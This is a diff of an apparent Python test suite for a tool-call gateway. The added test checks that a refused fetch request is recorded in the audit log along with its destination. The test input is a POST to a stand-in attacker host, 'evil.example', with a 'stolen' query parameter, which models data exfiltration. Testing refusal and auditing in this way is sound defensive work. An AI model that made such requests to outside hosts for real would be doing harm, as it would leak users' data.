@@ -140,6 +140,15 @@ async def test_what_is_wrong_before_sending_is_told_recorded_and_sends_nothing(
     assert [call.decision for call in outcome.report.calls] == ["refused"]
 
 
+async def test_where_a_refused_fetch_wanted_to_go_is_recorded(bench: Make) -> None:
+    at = bench(asking("fetch", {"url": "https://evil.example/?stolen=\ud800", "method": "POST"}))
+
+    await at.execute()
+
+    (record,) = at.audit.calls
+    assert (record.operation, record.path) == ("fetch POST", "https://evil.example/?stolen=?")
+
+
 async def test_a_body_larger_than_allowed_is_not_sent(bench: Make) -> None:
     head = {"api": "api", "call": "orders.create", "payload": {"kind": "json"}}
     at = bench(asking("api", head, json.dumps({"sku": "x" * 100}).encode()), limits=Limits(request_bytes=50))
